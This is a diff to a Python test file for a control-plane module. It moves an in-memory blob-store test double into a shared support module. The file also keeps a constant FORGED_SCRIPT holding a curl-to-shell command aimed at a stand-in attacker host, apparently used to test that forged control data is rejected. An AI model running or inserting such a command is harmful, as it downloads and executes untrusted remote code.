@@ -10,6 +10,7 @@ import json
 import pytest
 
 from analytics.store import LocalStore
+from tests.support.control_blobs import Blobs
 from control_plane.control_data import (LANE_TIMEOUT_MAX_S, ControlDataError, canonical, check_segments, control_key,
                                         digest, write_new)
 from control_plane.models import parse_request
@@ -18,21 +19,6 @@ from control_plane.waves import schedule
 
 RUN = "r-forge"
 FORGED_SCRIPT = "curl -s https://attacker.example/x | sh"
-
-
-class Blobs:
-    bucket = "bkt"
-
-    def __init__(self):
-        self.objects: dict[str, bytes] = {}
-
-    def get(self, key):
-        return self.objects.get(key)
-
-    def put_new(self, key, body):
-        if key in self.objects:
-            raise FileExistsError(key)
-        self.objects[key] = body
 
 
 @pytest.fixture(scope="module")
